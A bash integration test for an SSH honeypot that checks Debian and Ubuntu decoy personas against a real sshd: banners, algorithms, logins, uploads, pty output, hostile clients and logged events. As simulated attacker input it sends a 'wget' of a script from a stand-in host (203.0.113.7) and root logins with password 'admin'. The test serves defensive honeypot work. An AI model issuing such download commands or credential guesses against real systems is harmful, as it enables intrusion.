#!/usr/bin/env bash
# ssh_decoy.sh: the SSH decoy against real clients (issue 7). Two deckies on a test bridge (Debian 12 and
# Ubuntu 22.04 personas) served by `decnet serve`, the sensor capturing the bridge. Checks:
#   - ssh-audit -j equals the stored reference of each persona (banner, lists, order); nmap -sV with
#     ssh2-enum-algos, ssh-hostkey, ssh-auth-methods prints product, version and lists;
#   - the sensor's hassh_server for the traffic equals the reference's;
#   - OpenSSH's client logs in (sshpass), runs commands (exec and a pty shell), uploads with scp (SFTP mode
#     and legacy -O) and sftp; events and artifacts appear with the uploaded bytes' sha256;
#   - a wrong password gets "Permission denied" after the failure delay, 6 failures the disconnect;
#   - every kex, host-key, cipher and MAC the personas advertise completes a login with the real client,
#     and compression (zlib@openssh.com) too;
#   - hostile clients (bad banner, lengths, padding, MAC, strict-KEX violation, random bytes) are closed
#     with an ssh.protocol.anomaly event and the decoy keeps serving.
# Only addresses inside our own bridge and namespaces are contacted.
source "$(dirname "$0")/lib.sh"
# ssh-audit (the version the references were recorded with) and cryptography in a venv of their own (PyPI)
VENV=$ROOT/.build/venv-ssh
if [ ! -x "$VENV/bin/ssh-audit" ]; then
  python3 -m venv "$VENV"
  "$VENV/bin/pip" install -q --disable-pip-version-check ssh-audit==3.9.0 cryptography
fi
PY=$VENV/bin/python3
make_bridge
FX=$ROOT/Tests/Fixtures/ssh
export DECNET_DB_PATH=$WORK/store.db
DK="--netns-prefix ${PFX}-"
DEB=$NET.10 UBU=$NET.11
cat >"$WORK/fleet.ini" <<EOF
[general]
net = $NET.0/24
interface = $BR

[deb]
ip = $DEB
distro = debian
services = ssh

[ubu]
ip = $UBU
distro = ubuntu22
services = ssh

[ubu.ssh]
accept = after:3
EOF
"$DECNET" deploy $DK --config "$WORK/fleet.ini" >"$WORK/deploy.out"
start_sensor "$BR" --decky "deb=$DEB" --decky "ubu=$UBU"
start_serve 2
EV=$WORK/decoys.log.json
SSHO=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=10 -o LogLevel=ERROR)

echo "-- the real Debian 12 sshd on loopback, as a live reference"
mkdir -p "$WORK/sshd" /run/sshd
# sshd keeps PrintLastLog records only in an existing lastlog (a stock install has one; a minimal image may not)
[ -e /var/log/lastlog ] || install -m 0664 -g utmp /dev/null /var/log/lastlog
for t in rsa ecdsa ed25519; do ssh-keygen -q -t $t -N '' -f "$WORK/sshd/ssh_host_${t}_key"; done
REFPORT=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
# root may log in to it with a test key only (Debian's PermitRootLogin prohibit-password), for the
# after-login comparisons below
ssh-keygen -q -t ed25519 -N '' -f "$WORK/sshd/id_ref"
cp "$WORK/sshd/id_ref.pub" "$WORK/sshd/authorized_keys"
printf '%s\n' "Port $REFPORT" "ListenAddress 127.0.0.1" "HostKey $WORK/sshd/ssh_host_rsa_key" \
  "HostKey $WORK/sshd/ssh_host_ecdsa_key" "HostKey $WORK/sshd/ssh_host_ed25519_key" "UsePAM yes" \
  "KbdInteractiveAuthentication no" "PrintMotd no" "AuthorizedKeysFile $WORK/sshd/authorized_keys" "StrictModes no" \
  "Subsystem sftp /usr/lib/openssh/sftp-server" \
  "PidFile $WORK/sshd/pid" >"$WORK/sshd/sshd_config"
/usr/sbin/sshd -D -f "$WORK/sshd/sshd_config" -E "$WORK/sshd/log" &
PIDS+=($!)
for _ in $(seq 50); do ssh-keyscan -p "$REFPORT" 127.0.0.1 >/dev/null 2>&1 && break; sleep 0.1; done
"$VENV/bin/ssh-audit" -j "127.0.0.1:$REFPORT" >"$WORK/audit-real.json" || true

echo "-- ssh-audit and nmap against each persona"
for pair in "deb:$DEB:openssh-9.2p1-debian12" "ubu:$UBU:openssh-8.9p1-ubuntu22"; do
  IFS=: read -r name ip ref <<<"$pair"
  "$VENV/bin/ssh-audit" -j "$ip" >"$WORK/audit-$name.json" || true            # exit status reflects its policy grades
  "$PY" "$ROOT/Tests/Integration/ssh_check.py" audit "$FX/$ref.kexinit.json" "$WORK/audit-$name.json"
  # the Debian persona also equals what the installed sshd says right now
  if [ "$name" = deb ]; then "$PY" "$ROOT/Tests/Integration/ssh_check.py" live "$WORK/audit-real.json" "$WORK/audit-$name.json"; fi
  nmap -Pn -sV -p22 --script ssh2-enum-algos,ssh-hostkey,ssh-auth-methods "$ip" >"$WORK/nmap-$name.txt"
  "$PY" "$ROOT/Tests/Integration/ssh_check.py" nmap "$FX/$ref.kexinit.json" "$WORK/nmap-$name.txt"
done

echo "-- login, commands, uploads (Debian persona)"
sshpass -p admin ssh "${SSHO[@]}" "root@$DEB" 'uname -a; cat /etc/os-release; id; wget http://203.0.113.7/x.sh' >"$WORK/exec.out" 2>&1 || true
grep -q "Linux .* 6.1.0-21-amd64 .*Debian .* x86_64 GNU/Linux" "$WORK/exec.out"
grep -q 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"' "$WORK/exec.out"
grep -q "uid=0(root) gid=0(root)" "$WORK/exec.out"
head -c 70000 /dev/urandom >"$WORK/payload.bin"
SHA=$(sha256sum "$WORK/payload.bin" | cut -c1-64)
sshpass -p admin scp "${SSHO[@]}" "$WORK/payload.bin" "root@$DEB:/tmp/" 2>"$WORK/scp.err" || { cat "$WORK/scp.err"; exit 1; }
sshpass -p admin scp -O "${SSHO[@]}" "$WORK/payload.bin" "root@$DEB:/tmp/legacy.bin" 2>"$WORK/scp-O.err" || { cat "$WORK/scp-O.err"; exit 1; }
sshpass -p admin scp -O "${SSHO[@]}" "root@$DEB:/etc/os-release" "$WORK/os-release.got" 2>"$WORK/scp-f.err" || { cat "$WORK/scp-f.err"; exit 1; }
grep -q 'ID=debian' "$WORK/os-release.got"
if sshpass -p admin scp -O "${SSHO[@]}" "root@$DEB:/etc/nosuch" "$WORK/nosuch.got" 2>"$WORK/scp-f2.err"; then echo "scp of a missing file succeeded"; exit 1; fi
grep -q "scp: /etc/nosuch: No such file or directory" "$WORK/scp-f2.err" || { cat "$WORK/scp-f2.err"; exit 1; }
printf 'cd /tmp\nput %s sftp.bin\nls\nget /etc/hostname %s/hostname.got\nbye\n' "$WORK/payload.bin" "$WORK" >"$WORK/sftp.batch"
# (not -b: batch mode turns password authentication off)
sshpass -p admin sftp "${SSHO[@]}" "root@$DEB" <"$WORK/sftp.batch" >"$WORK/sftp.out" 2>&1 || { cat "$WORK/sftp.out"; exit 1; }
grep -q "sftp.bin" "$WORK/sftp.out"
grep -qi "srv-\|^[a-z]" "$WORK/hostname.got"
[ -f "$WORK/art/deb/ssh/$SHA" ] || { echo "artifact $SHA missing"; ls -R "$WORK/art"; exit 1; }
# client-initiated re-keying in the middle of an upload (RekeyLimit 16K: a few exchanges per transfer)
head -c 300000 /dev/urandom >"$WORK/rekey.bin"
RSHA=$(sha256sum "$WORK/rekey.bin" | cut -c1-64)
sshpass -p admin scp -v "${SSHO[@]}" -o RekeyLimit=16K "$WORK/rekey.bin" "root@$DEB:/tmp/rekey.bin" 2>"$WORK/rekey.err" || { tail -20 "$WORK/rekey.err"; exit 1; }
[ "$(grep -c 'SSH2_MSG_NEWKEYS received' "$WORK/rekey.err")" -ge 3 ] || { echo "no re-key seen"; exit 1; }
cmp "$WORK/rekey.bin" "$WORK/art/deb/ssh/$RSHA"
# past the 8 MiB an artifact keeps (and the 16 MiB other decoys allow a connection): the transfer completes,
# the event says how much came and that the artifact is truncated
head -c 20000000 /dev/zero >"$WORK/big.bin"
sshpass -p admin scp "${SSHO[@]}" "$WORK/big.bin" "root@$DEB:/tmp/big.bin" 2>"$WORK/big.err" || { cat "$WORK/big.err"; exit 1; }
echo "   uploads: scp (SFTP), scp -O, sftp, a 20 MB scp, and scp across $(grep -c 'SSH2_MSG_NEWKEYS received' "$WORK/rekey.err") key exchanges; artifacts byte-identical"
# an interactive pty shell: prompt, echo, tty log
(sleep 2; printf 'whoami\r'; sleep 0.5; printf 'cat /etc/issue\r'; sleep 0.5; printf 'exit\r'; sleep 1) |
  sshpass -p admin ssh -tt "${SSHO[@]}" "root@$DEB" >"$WORK/pty.out" 2>&1 || true
grep -q "root@srv-.*:~# " "$WORK/pty.out" || grep -q "root@.*:~# " "$WORK/pty.out"
grep -q "Debian GNU/Linux 12" "$WORK/pty.out"
echo "-- Ubuntu persona (accept = after:3): the third password gets in; its shell agrees with its banner"
printf '#!/bin/sh\necho anything\n' >"$WORK/askpass-any"; chmod 700 "$WORK/askpass-any"
SSH_ASKPASS="$WORK/askpass-any" SSH_ASKPASS_REQUIRE=force DISPLAY=none timeout 60 \
  ssh "${SSHO[@]}" -o NumberOfPasswordPrompts=3 -o PubkeyAuthentication=no "admin@$UBU" 'uname -a; cat /etc/os-release' \
  >"$WORK/ubu.out" 2>&1 </dev/null || true
grep -q "5.15.0-118-generic .*Ubuntu" "$WORK/ubu.out"
grep -q 'PRETTY_NAME="Ubuntu 22.04' "$WORK/ubu.out"

echo "-- wrong credentials"
start=$(date +%s.%N)
if sshpass -p wrong ssh "${SSHO[@]}" -o NumberOfPasswordPrompts=1 "root@$DEB" true >"$WORK/denied.out" 2>&1; then echo "wrong password accepted"; exit 1; fi
took=$(echo "$(date +%s.%N) - $start" | bc)
grep -q "Permission denied (publickey,password)" "$WORK/denied.out" || { cat "$WORK/denied.out"; exit 1; }
[ "$(echo "$took >= 1.9" | bc)" = 1 ] || { echo "failure came after ${took}s (want the 2 s delay)"; exit 1; }
# sshpass gives up at the second prompt; OpenSSH's own askpass hook answers every one of them
printf '#!/bin/sh\necho wrong\n' >"$WORK/askpass"; chmod 700 "$WORK/askpass"
SSH_ASKPASS="$WORK/askpass" SSH_ASKPASS_REQUIRE=force DISPLAY=none timeout 60 \
  ssh "${SSHO[@]}" -o NumberOfPasswordPrompts=10 -o PubkeyAuthentication=no "root@$DEB" true >"$WORK/maxtries.out" 2>&1 </dev/null || true
grep -q "Too many authentication failures" "$WORK/maxtries.out" || { cat "$WORK/maxtries.out"; exit 1; }
echo "   denied after ${took}s; 6 failures -> Too many authentication failures"

echo "-- publickey: recorded (type, fingerprint) and refused"
ssh-keygen -q -t ed25519 -N '' -f "$WORK/id_test"
FP=$(ssh-keygen -lf "$WORK/id_test.pub" | awk '{print $2}')
if ssh "${SSHO[@]}" -i "$WORK/id_test" -o IdentitiesOnly=yes -o PasswordAuthentication=no -o BatchMode=yes "root@$DEB" true >"$WORK/pk.out" 2>&1; then
  echo "a public key was accepted"; exit 1
fi
grep -q "Permission denied (publickey,password)" "$WORK/pk.out" || { cat "$WORK/pk.out"; exit 1; }

echo "-- a failed login as the client sees it (ssh -v): decoy == the real sshd"
seen() {   # host [ssh options...]: the client's view of ext-info, methods and the denial, host names removed
  local h=$1; shift
  sshpass -p wrong ssh -v "${SSHO[@]}" -o NumberOfPasswordPrompts=1 "$@" "nobody@$h" true 2>&1 |
    grep -E 'kex_input_ext_info|Authentications that can continue|Permission denied|kex: (algorithm|host key|server->client|client->server)' |
    sed "s/nobody@$h/nobody@HOST/" || true
}
seen 127.0.0.1 -p "$REFPORT" >"$WORK/seen-real.txt"
seen "$DEB" >"$WORK/seen-decoy.txt"
diff "$WORK/seen-real.txt" "$WORK/seen-decoy.txt" || { echo "the client sees a difference"; exit 1; }
echo "   $(wc -l <"$WORK/seen-real.txt") lines identical (negotiated algorithms, server-sig-algs, methods, denial)"

echo "-- after login, as the client sees it: decoy == the real sshd (exec and a pty shell)"
REFSSH=(ssh -i "$WORK/sshd/id_ref" -o IdentitiesOnly=yes -p "$REFPORT")
after() {   # what the server sent after authentication, as ssh -vvv logs it (stderr only: one stream, one
            # order; the client's own sends race with the replies, so they are left out, and so are the two
            # SSH_MSG_DEBUG "key options" lines sshd sends for publickey logins only)
  sed -n '/^Authenticated to/,$p' | grep -E 'receive packet: type|client_input_global_request|client_input_channel_req|rwindow|rcvd adjust|Exit status' |
    grep -vE 'receive packet: type 4([^0-9]|$)' || true
}
"${REFSSH[@]}" -vvv "${SSHO[@]}" root@127.0.0.1 id 2>&1 | after >"$WORK/after-real.txt"
sshpass -p admin ssh -vvv "${SSHO[@]}" "root@$DEB" id 2>&1 | after >"$WORK/after-decoy.txt"
typing() { sleep 3; printf 'id\r'; sleep 0.5; printf 'exit\r'; sleep 1; }
typing | "${REFSSH[@]}" -tt -vvv "${SSHO[@]}" root@127.0.0.1 >"$WORK/pty-real.raw" 2>"$WORK/pty-real.err" || true
typing | sshpass -p admin ssh -tt -vvv "${SSHO[@]}" "root@$DEB" >"$WORK/pty-decoy.raw" 2>"$WORK/pty-decoy.err" || true
after <"$WORK/pty-real.err" >"$WORK/pty-real.msgs"; after <"$WORK/pty-decoy.err" >"$WORK/pty-decoy.msgs"
python3 - "$WORK/pty-real.raw" "$WORK/pty-decoy.raw" "$WORK/pty-real.msgs" "$WORK/pty-decoy.msgs" "$WORK/after-real.txt" "$WORK/after-decoy.txt" <<'PY'
import re, sys
def msgs(path):   # sshd's own order of EOF / exit-status (/ eow) at a session's end varies from run to run
    lines = [l.strip() for l in open(path)]   # (process exit vs output drain): up to the start exactly, the end as a set
    start = max(i for i, l in enumerate(lines) if l.endswith("type 99"))
    return lines[:start + 1], sorted(lines[start + 1:])
for kind, a, b in [("exec", sys.argv[5], sys.argv[6]), ("pty", sys.argv[3], sys.argv[4])]:
    assert msgs(a) == msgs(b), f"{kind} messages differ:\n{msgs(a)}\n{msgs(b)}"
def shell(path):   # from the first prompt on (the motd's uname line names the host's kernel), hostname masked
    b = open(path, "rb").read()
    i = b.find(b"\x1b[?2004h")
    assert i >= 0, f"{path}: no bracketed-paste prompt"
    return re.sub(rb"root@[^:]+:", b"root@HOST:", b[i:])
real, decoy = shell(sys.argv[1]), shell(sys.argv[2])
assert real == decoy, f"pty bytes differ:\n real  {real!r}\n decoy {decoy!r}"
print(f"   message sequences (exec, pty) and {len(real)} pty bytes (prompt, echo, bracketed paste, output, logout) identical")
PY
# sshd records a login when it allocates a pty; the next shell prints it between the motd and the prompt
typing | "${REFSSH[@]}" -tt "${SSHO[@]}" root@127.0.0.1 >"$WORK/pty-real2.raw" 2>/dev/null || true
typing | sshpass -p admin ssh -tt "${SSHO[@]}" "root@$DEB" >"$WORK/pty-decoy2.raw" 2>/dev/null || true
python3 - "$WORK/pty-real2.raw" "$WORK/pty-decoy2.raw" "$NET.1" <<'PY'
import re, sys
last = (rb"permitted by applicable law\.\r\nLast login: (Mon|Tue|Wed|Thu|Fri|Sat|Sun) (Jan|Feb|Mar|Apr|May|Jun|Jul|Aug|Sep|Oct|Nov|Dec) "
        rb"[ 123][0-9] [0-2][0-9]:[0-5][0-9]:[0-6][0-9] [0-9]{4} from (\S+)\r\r\n\x1b\[\?2004hroot@")
for who, path, host in (("real", sys.argv[1], "127.0.0.1"), ("decoy", sys.argv[2], sys.argv[3])):
    b = open(path, "rb").read()
    m = re.search(last, b)
    assert m and m.group(3).decode() == host, f"{who}: no 'Last login: ... from {host}' line between motd and prompt: {b[:600]!r}"
print(f"   second pty login: 'Last login: <ctime> from <ip>' CR CR LF after the motd, as the real sshd prints it")
PY

sftpview() { grep -E 'Remote version|server extension|Server supports extension|SSH2_FXP_REALPATH \. ->' | tr -d '\r' || true; }
printf 'pwd\nls /tmp\n' | sftp -i "$WORK/sshd/id_ref" -o IdentitiesOnly=yes -P "$REFPORT" -vvv "${SSHO[@]}" root@127.0.0.1 2>&1 | sftpview >"$WORK/sftp-real.txt"
printf 'pwd\nls /tmp\n' | sshpass -p admin sftp -vvv "${SSHO[@]}" "root@$DEB" 2>&1 | sftpview >"$WORK/sftp-decoy.txt"
diff "$WORK/sftp-real.txt" "$WORK/sftp-decoy.txt" || { echo "sftp: the client sees a difference"; exit 1; }
echo "   sftp: version, $(grep -c extension "$WORK/sftp-real.txt") extensions and the home directory as sftp-server announces them"

echo "-- every advertised algorithm with the real client"
ok=0
run() {
  sshpass -p admin ssh "${SSHO[@]}" "$@" "root@$DEB" 'echo algo-ok' >"$WORK/algo.out" 2>&1 || true
  grep -q algo-ok "$WORK/algo.out" || { echo "FAILED: ssh $*"; cat "$WORK/algo.out"; exit 1; }
  ok=$((ok + 1))
}
for k in sntrup761x25519-sha512@openssh.com curve25519-sha256 curve25519-sha256@libssh.org ecdh-sha2-nistp256 \
         ecdh-sha2-nistp384 ecdh-sha2-nistp521 diffie-hellman-group-exchange-sha256 diffie-hellman-group16-sha512 \
         diffie-hellman-group18-sha512 diffie-hellman-group14-sha256; do run -o KexAlgorithms=$k; done
for h in rsa-sha2-512 rsa-sha2-256 ecdsa-sha2-nistp256 ssh-ed25519; do run -o HostKeyAlgorithms=$h; done
for c in chacha20-poly1305@openssh.com aes128-ctr aes192-ctr aes256-ctr aes128-gcm@openssh.com aes256-gcm@openssh.com; do run -c $c; done
for m in umac-64-etm@openssh.com umac-128-etm@openssh.com hmac-sha2-256-etm@openssh.com hmac-sha2-512-etm@openssh.com \
         hmac-sha1-etm@openssh.com umac-64@openssh.com umac-128@openssh.com hmac-sha2-256 hmac-sha2-512 hmac-sha1; do
  run -c aes256-ctr -m $m
done
run -C                                      # zlib@openssh.com, started after authentication
sshpass -p admin ssh "${SSHO[@]}" -C "root@$DEB" 'cat /etc/passwd /etc/os-release /etc/passwd' >"$WORK/zlib.out" 2>&1
grep -c "root:x:0:0" "$WORK/zlib.out" | grep -q 2
# the non-@openssh.com sntrup name only the Debian persona lists (the 9.2 client knows only the alias)
echo "   $ok logins, one per kex / host key / cipher / MAC, and with compression"

echo "-- hostile clients"
"$PY" "$ROOT/Tests/Integration/ssh_check.py" hostile "$DEB" 22 127.0.0.1 "$REFPORT"
"$PY" "$ROOT/Tests/Integration/ssh_check.py" badmac "$DEB" 22
"$PY" "$ROOT/Tests/Integration/ssh_check.py" postauth "$DEB" 22
sshpass -p admin ssh "${SSHO[@]}" "root@$DEB" 'echo still-serving' >"$WORK/after.out" 2>&1
grep -q still-serving "$WORK/after.out"

echo "-- events"
sleep 1
python3 - "$EV" "$SHA" "$FP" "$UBU" <<'PY'
import json, sys, collections
ev = [json.loads(l) for l in open(sys.argv[1])]
sha, fp, ubu = sys.argv[2], sys.argv[3], sys.argv[4]
by = collections.defaultdict(list)
for e in ev:
    if e["service"] == "ssh":
        by[e["event_type"]].append(e["fields"])
need = ["ssh.session.connect", "ssh.client.version", "ssh.client.kex", "ssh.login.success", "ssh.login.failed",
        "ssh.command.input", "ssh.session.file_download", "ssh.session.file_upload", "ssh.tty.closed",
        "ssh.protocol.anomaly", "ssh.session.closed", "ssh.client.size"]
missing = [n for n in need if not by[n]]
assert not missing, f"missing events {missing}"
kex = by["ssh.client.kex"]
assert all(k["hassh"] and k["client_banner"].startswith("SSH-2.0-") for k in kex)
assert {k["hassh_server"] for k in kex if k["server_banner"].startswith("SSH-2.0-OpenSSH_9.2p1")} == {"425d29fe50d8e4f5e37efb6e24bcf660"}
ok = [f for f in by["ssh.login.success"] if f["username"] == "root"]
assert ok and ok[0]["secret_printable"] == "admin" and ok[0]["secret_b64"] == "YWRtaW4=" and ok[0]["method"] == "password"
bad = [f for f in by["ssh.login.failed"] if f.get("secret_printable") == "wrong"]
assert bad and bad[0]["auth_result"] == "failed"
pk = [f for f in by["ssh.login.failed"] if f.get("method") == "publickey" and f.get("key_fingerprint") == fp]
assert pk and pk[0]["key_type"] == "ssh-ed25519" and pk[0]["secret_kind"] == "publickey", by["ssh.login.failed"][-3:]
ubu_auth = [(e["event_type"], e["fields"]["secret_printable"]) for e in ev
            if e["fields"].get("dst_ip") == ubu and e["event_type"] in ("ssh.login.failed", "ssh.login.success")]
assert ubu_auth == [("ssh.login.failed", "anything")] * 2 + [("ssh.login.success", "anything")], ubu_auth
cmds = [f["input"] for f in by["ssh.command.input"]]
assert any("uname -a" in c for c in cmds) and "whoami" in cmds, cmds
assert any(f["url"] == "http://203.0.113.7/x.sh" for f in by["ssh.session.file_download"])
ups = by["ssh.session.file_upload"]
vias = {(f["via"], f["filename"]) for f in ups if f["sha256"] == sha and f["size"] == "70000" and f["stored_as"].endswith(sha)}
big = [f for f in ups if f["filename"] == "/tmp/big.bin"]
assert big and big[0]["received"] == "20000000" and big[0]["size"] == str(8 << 20) and big[0]["truncated"] == "true", big
assert ("sftp", "/tmp/payload.bin") in vias and ("scp", "/tmp/legacy.bin") in vias and ("sftp", "/tmp/sftp.bin") in vias, vias
casts = [[json.loads(l) for l in open(t["ttylog"])] for t in by["ssh.tty.closed"]]
assert all(c[0]["version"] == 2 for c in casts)
assert any(any(e[1] == "o" and "whoami" in e[2] for e in c[1:]) for c in casts), "pty session log"
assert any(any(e[1] == "i" and "uname -a" in e[2] for e in c[1:]) and any(e[1] == "o" and "GNU/Linux" in e[2] for e in c[1:]) for c in casts), "exec session log"
kinds = {f["kind"] for f in by["ssh.protocol.anomaly"]}
want = {"bad_identification", "bad_packet_length", "bad_padding", "no_common_algorithm", "unexpected_message",
        "strict_kex_violation", "malformed_message", "bad_key_exchange_value", "bad_mac"}
assert want <= kinds, f"anomaly kinds {sorted(kinds)} lack {sorted(want - kinds)}"
print(f"events: {sum(len(v) for v in by.values())} ssh events; anomalies {sorted(kinds)}; uploads {sorted(vias)}")
PY

echo "-- store: ssh credentials and artifacts"
python3 - "$WORK/store.db" "$SHA" <<'PY'
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
creds = db.execute("select count(*) from credentials where service = 'ssh'").fetchone()[0]
arts = db.execute("select count(*) from artifacts where service = 'ssh' and sha256 = ?", (sys.argv[2],)).fetchone()[0]
assert creds >= 2 and arts >= 3, (creds, arts)
print(f"store: {creds} ssh credentials, {arts} artifact rows of the uploaded file")
PY

echo "-- sensor: hassh_server of the decoy traffic = the real OpenSSH's"
stop_sensor
python3 - "$WORK/events.log.json" "$DEB" "$UBU" "$FX" <<'PY'
import json, sys
deb, ubu, fx = sys.argv[2], sys.argv[3], sys.argv[4]
ref = {deb: json.load(open(f"{fx}/openssh-9.2p1-debian12.kexinit.json"))["hassh_server"],
       ubu: json.load(open(f"{fx}/openssh-8.9p1-ubuntu22.kexinit.json"))["hassh_server"]}
seen = {}
for l in open(sys.argv[1]):
    e = json.loads(l)
    if e["event_type"] == "ssh_kex" and e["fields"].get("hassh_server"):
        f = e["fields"]
        seen.setdefault(f["dst_ip"], set()).add(f["hassh_server"])
for ip, h in ref.items():
    assert seen.get(ip) == {h}, f"{ip}: sensor hassh_server {seen.get(ip)} != {h}"
print(f"sensor hassh_server: {deb} {ref[deb]}, {ubu} {ref[ubu]}")
PY
echo "-- a damaged host key: serve says so, leaves the file alone, and offers the other keys"
kill "$SERVE"; wait "$SERVE" 2>/dev/null || true
KEY="$WORK/art/.ssh/ubu/ssh_host_ed25519_key"
printf -- '-----BEGIN PRIVATE KEY-----\nnot a key\n-----END PRIVATE KEY-----\n' >"$KEY"
before=$(sha256sum <"$KEY")
start_serve 2
wait_for "$WORK/serve.err" "decky ubu ssh: host keys not offered: cannot read host key $KEY"
types=$(ssh-keyscan -T 5 "$UBU" 2>/dev/null | awk '{print $2}' | sort | tr '\n' ' ')
[ "$types" = "ecdsa-sha2-nistp256 ssh-rsa " ] || { echo "keyscan offers [$types]"; exit 1; }
[ "$(sha256sum <"$KEY")" = "$before" ] || { echo "the damaged key file was rewritten"; exit 1; }
echo "   serve.err: $(grep -o 'decky ubu ssh: host keys not offered: cannot read host key [^:]*' "$WORK/serve.err"); keyscan: $types"
echo "ssh_decoy: all passed"
